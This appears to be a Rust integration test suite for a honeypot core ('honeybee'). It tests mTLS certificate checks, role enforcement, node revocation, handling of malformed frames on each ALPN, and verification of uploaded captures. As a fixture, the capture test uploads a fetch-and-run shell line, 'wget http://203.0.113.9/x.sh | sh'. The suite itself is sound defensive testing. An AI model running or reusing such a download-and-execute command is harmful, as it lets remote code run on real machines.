//! Who may talk to the core, and what happens to peers that misbehave: certificates from
//! another CA, self-signed copies, wrong roles, revoked nodes, and garbage on every ALPN.
//! Real QUIC and mTLS on real sockets against a real `honeybee core run`.

mod common;
use common::quic::*;
use common::*;
use honeybee_proto::codec::FrameLimit;
use honeybee_proto::control::{AgentMsg, CoreMsg, Hello, NodeMode};
use honeybee_proto::stream::close;
use honeybee_proto::{Role, alpn};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

fn addr(dep: &Deployment) -> SocketAddr {
    format!("127.0.0.1:{}", dep.port).parse().unwrap()
}

fn ca_der(dep: &Deployment) -> Vec<u8> {
    load_ca(&dep.core_dir()).cert_der().to_vec()
}

/// Enrols an identity through the real enrolment path without running an agent.
fn enrolled(dep: &Deployment, name: &str) -> ClientId {
    let token = dep.token(name, &[]);
    let a = dep.agent_dir(name);
    ok(&[
        "agent",
        "enroll",
        "--token",
        &token,
        "--data-dir",
        a.to_str().unwrap(),
    ]);
    agent_identity(&a)
}

async fn hello(conn: &quinn::Connection) -> (quinn::SendStream, quinn::RecvStream, CoreMsg) {
    use honeybee_agent::transport::{read_frame, write_frame};
    let (mut send, mut recv) = conn.open_bi().await.expect("control stream");
    let msg = AgentMsg::Hello(Hello {
        wire_version: honeybee_proto::WIRE_VERSION,
        agent_version: "test".into(),
        mode: NodeMode::Full,
        hostname: "test".into(),
    });
    write_frame(&mut send, &msg, FrameLimit::CONTROL)
        .await
        .unwrap();
    let welcome: CoreMsg = read_frame(&mut recv, FrameLimit::CONTROL)
        .await
        .expect("welcome");
    (send, recv, welcome)
}

/// A peer the TLS layer refuses: the handshake fails, or the connection dies at once.
async fn assert_refused(result: Result<(quinn::Endpoint, quinn::Connection), String>, what: &str) {
    match result {
        Err(_) => {}
        Ok((_ep, conn)) => {
            let e = closed_within(&conn, Duration::from_secs(5)).await;
            assert!(
                !matches!(e, quinn::ConnectionError::LocallyClosed),
                "{what}: expected the core to refuse, got {e}"
            );
            assert_ne!(app_code(&e), Some(close::NORMAL as u64), "{what}: {e}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_certificates_from_our_ca_with_the_right_role_get_in() {
    let mut dep = Deployment::init(|t| t);
    dep.start_core();
    let ca = ca_der(&dep);
    let good = enrolled(&dep, "good");

    // The genuine agent gets a welcome.
    let (_ep, conn) = connect(addr(&dep), &ca, &good, alpn::NODE).await.unwrap();
    let (_s, _r, welcome) = hello(&conn).await;
    assert!(matches!(welcome, CoreMsg::Welcome { .. }));
    conn.close(0u32.into(), b"done");

    // Another CA, same trust domain and SAN: refused by the chain check.
    let foreign = honeybee_pki::ca::Ca::generate("test.honeybee").unwrap();
    let forged = issue(&foreign, Role::Agent, "good");
    assert_refused(
        connect(addr(&dep), &ca, &forged, alpn::NODE).await,
        "foreign CA",
    )
    .await;

    // Self-signed with the genuine SAN copied: refused.
    let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    params.subject_alt_names = vec![rcgen::SanType::URI(
        "spiffe://test.honeybee/agent/good".try_into().unwrap(),
    )];
    let cert = params.self_signed(&key).unwrap();
    let selfsigned = ClientId {
        chain: vec![cert.der().clone()],
        key: honeybee_pki::keys::KeyPair::from_pem(&key.serialize_pem()).unwrap(),
    };
    assert_refused(
        connect(addr(&dep), &ca, &selfsigned, alpn::NODE).await,
        "self-signed",
    )
    .await;

    // A module certificate from our own CA cannot open an agent session.
    let module = issue(&load_ca(&dep.core_dir()), Role::Module, "m1");
    let (_ep, conn) = connect(addr(&dep), &ca, &module, alpn::NODE).await.unwrap();
    let e = closed_within(&conn, Duration::from_secs(5)).await;
    assert_eq!(app_code(&e), Some(close::FORBIDDEN as u64), "{e}");
    // Nor may an agent certificate use the admin API.
    let (_ep, conn) = connect(addr(&dep), &ca, &good, alpn::ADMIN).await.unwrap();
    let e = closed_within(&conn, Duration::from_secs(5)).await;
    assert_eq!(app_code(&e), Some(close::FORBIDDEN as u64), "{e}");

    // No client certificate at all on an mTLS ALPN.
    let tls = honeybee_pki::tls::enroll_client_config(load_ca(&dep.core_dir()).pin(), alpn::NODE)
        .unwrap();
    let (_ep, conn) = connect_with(addr(&dep), tls).await.unwrap();
    let e = closed_within(&conn, Duration::from_secs(5)).await;
    assert_eq!(app_code(&e), Some(close::FORBIDDEN as u64), "{e}");

    let audit = dep.audit();
    assert!(
        audit
            .iter()
            .any(|a| a["outcome"] == "forbidden role for ALPN")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn revoking_a_live_node_cuts_it_off_within_a_second_for_good() {
    let mut dep = Deployment::init(|t| t);
    dep.start_core();
    let ca = ca_der(&dep);
    let id = enrolled(&dep, "doomed");
    let (_ep, conn) = connect(addr(&dep), &ca, &id, alpn::NODE).await.unwrap();
    let _control = hello(&conn).await;

    let d = dep.d();
    let revoke =
        tokio::task::spawn_blocking(move || ok(&["node", "revoke", "doomed", "--data-dir", &d]));
    let e = closed_within(&conn, Duration::from_secs(10)).await;
    let closed_at = Instant::now();
    revoke.await.unwrap();
    // The close happens inside the revoke request, before the CLI even hears back.
    let after_cli = closed_at.elapsed();
    assert_eq!(app_code(&e), Some(close::REVOKED as u64), "{e}");
    assert!(after_cli < Duration::from_secs(5), "sanity: {after_cli:?}");

    // Every later handshake with that certificate fails.
    assert_refused(
        connect(addr(&dep), &ca, &id, alpn::NODE).await,
        "revoked reconnect",
    )
    .await;
    let node = dep.node("doomed").unwrap();
    assert_eq!(node["revoked"], true);
    assert_eq!(node["online"], false);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_on_every_alpn_closes_that_connection_and_the_core_carries_on() {
    let mut dep = Deployment::init(|t| t);
    dep.start_core();
    let ca = ca_der(&dep);
    let agent = enrolled(&dep, "noisy");
    let admin = ClientId {
        chain: honeybee_pki::files::pem_to_der_certs(
            &std::fs::read_to_string(dep.core_dir().join("pki/admin.crt")).unwrap(),
        )
        .unwrap(),
        key: honeybee_pki::keys::KeyPair::from_pem(
            &std::fs::read_to_string(dep.core_dir().join("pki/admin.key")).unwrap(),
        )
        .unwrap(),
    };
    let pin = load_ca(&dep.core_dir()).pin();
    let oversized = [0xff, 0xff, 0xff, 0xff, 1, 2, 3];
    let garbage = [0, 0, 0, 6, 0xde, 0xad, 0xbe, 0xef, 0xff, 0xff];

    for (name, payload) in [("oversized", &oversized[..]), ("garbage", &garbage[..])] {
        // Enrolment ALPN.
        let tls = honeybee_pki::tls::enroll_client_config(pin, alpn::ENROLL).unwrap();
        let (_ep, conn) = connect_with(addr(&dep), tls).await.unwrap();
        let (mut s, _r) = conn.open_bi().await.unwrap();
        s.write_all(payload).await.unwrap();
        let e = closed_within(&conn, Duration::from_secs(5)).await;
        assert_eq!(
            app_code(&e),
            Some(close::PROTOCOL as u64),
            "enroll {name}: {e}"
        );

        // Node ALPN, on the control stream in place of hello.
        let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
        let (mut s, _r) = conn.open_bi().await.unwrap();
        s.write_all(payload).await.unwrap();
        let e = closed_within(&conn, Duration::from_secs(5)).await;
        assert_eq!(
            app_code(&e),
            Some(close::PROTOCOL as u64),
            "node {name}: {e}"
        );

        // Node ALPN, as a telemetry stream after a proper hello.
        let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
        let _control = hello(&conn).await;
        let mut u = conn.open_uni().await.unwrap();
        u.write_all(&[honeybee_proto::stream::StreamKind::Telemetry as u8])
            .await
            .unwrap();
        u.write_all(payload).await.unwrap();
        let _ = u.finish();
        let e = closed_within(&conn, Duration::from_secs(5)).await;
        assert_eq!(
            app_code(&e),
            Some(close::PROTOCOL as u64),
            "telemetry {name}: {e}"
        );

        // Admin ALPN.
        let (_ep, conn) = connect(addr(&dep), &ca, &admin, alpn::ADMIN).await.unwrap();
        let (mut s, _r) = conn.open_bi().await.unwrap();
        s.write_all(payload).await.unwrap();
        let e = closed_within(&conn, Duration::from_secs(5)).await;
        assert_eq!(
            app_code(&e),
            Some(close::PROTOCOL as u64),
            "admin {name}: {e}"
        );
    }

    // An unknown stream kind.
    let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
    let _control = hello(&conn).await;
    let mut u = conn.open_uni().await.unwrap();
    u.write_all(&[0x7e, 1, 2, 3]).await.unwrap();
    let _ = u.finish();
    let e = closed_within(&conn, Duration::from_secs(5)).await;
    assert_eq!(
        app_code(&e),
        Some(close::PROTOCOL as u64),
        "unknown stream kind: {e}"
    );

    // The core still serves everyone else.
    let d = dep.d();
    let status = tokio::task::spawn_blocking(move || ok(&["status", "--json", "--data-dir", &d]))
        .await
        .unwrap();
    assert!(
        status.contains("\"trust_domain\":\"test.honeybee\""),
        "{status}"
    );
    let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
    let (_s, _r, welcome) = hello(&conn).await;
    assert!(matches!(welcome, CoreMsg::Welcome { .. }));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn captures_are_verified_and_stored_content_addressed() {
    use honeybee_agent::transport::{read_frame, write_frame};
    use honeybee_proto::capture::{CaptureHeader, CaptureKind};
    let mut dep = Deployment::init(|t| {
        t.replace("max_capture_bytes = 67108864", "max_capture_bytes = 100000")
    });
    dep.start_core();
    let ca = ca_der(&dep);
    let agent = enrolled(&dep, "uploader");
    let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
    let (_s, mut ctl, _) = hello(&conn).await;

    let content = b"#!/bin/sh\nwget http://203.0.113.9/x.sh | sh\n".repeat(100);
    let sha: [u8; 32] = ring::digest::digest(&ring::digest::SHA256, &content)
        .as_ref()
        .try_into()
        .unwrap();
    let upload = |size: u64, sha256: [u8; 32], body: Vec<u8>| {
        let conn = conn.clone();
        async move {
            let mut u = conn.open_uni().await.unwrap();
            u.write_all(&[honeybee_proto::stream::StreamKind::Capture as u8])
                .await
                .unwrap();
            let header = CaptureHeader {
                size,
                sha256,
                kind: CaptureKind::Upload,
                service: "ftp".into(),
                session: None,
                time_ms: 0,
                meta: vec![("filename".into(), "x.sh".into())],
            };
            write_frame(&mut u, &header, FrameLimit::CAPTURE_HEADER)
                .await
                .unwrap();
            let _ = u.write_all(&body).await;
            let _ = u.finish();
        }
    };
    let mut next_capture_answer = async || loop {
        match read_frame::<CoreMsg, _>(&mut ctl, FrameLimit::CONTROL)
            .await
            .unwrap()
        {
            m @ (CoreMsg::CaptureStored { .. } | CoreMsg::CaptureRejected { .. }) => return m,
            _ => continue,
        }
    };

    upload(content.len() as u64, sha, content.clone()).await;
    assert_eq!(
        next_capture_answer().await,
        CoreMsg::CaptureStored { sha256: sha }
    );
    let stored = dep
        .core_dir()
        .join("captures")
        .join(&hex::encode(sha)[..2])
        .join(hex::encode(sha));
    assert_eq!(std::fs::read(&stored).unwrap(), content);

    let mut wrong = content.clone();
    wrong[0] = b'X';
    upload(wrong.len() as u64, sha, wrong).await;
    assert!(
        matches!(next_capture_answer().await, CoreMsg::CaptureRejected { reason, .. } if reason.contains("SHA-256"))
    );

    upload(200_000, [7; 32], vec![0; 10]).await;
    assert!(
        matches!(next_capture_answer().await, CoreMsg::CaptureRejected { reason, .. } if reason.contains("limit"))
    );
    assert_eq!(
        std::fs::read(&stored).unwrap(),
        content,
        "the stored capture is untouched"
    );
}

// ---- the same tests on a PostgreSQL store (`common::on_postgres`: same body, a
// database of its own on this test binary's PostgreSQL server)

#[test]
fn revoking_a_live_node_cuts_it_off_within_a_second_for_good_on_postgres() {
    on_postgres(revoking_a_live_node_cuts_it_off_within_a_second_for_good);
}

#[test]
fn captures_are_verified_and_stored_content_addressed_on_postgres() {
    on_postgres(captures_are_verified_and_stored_content_addressed);
}
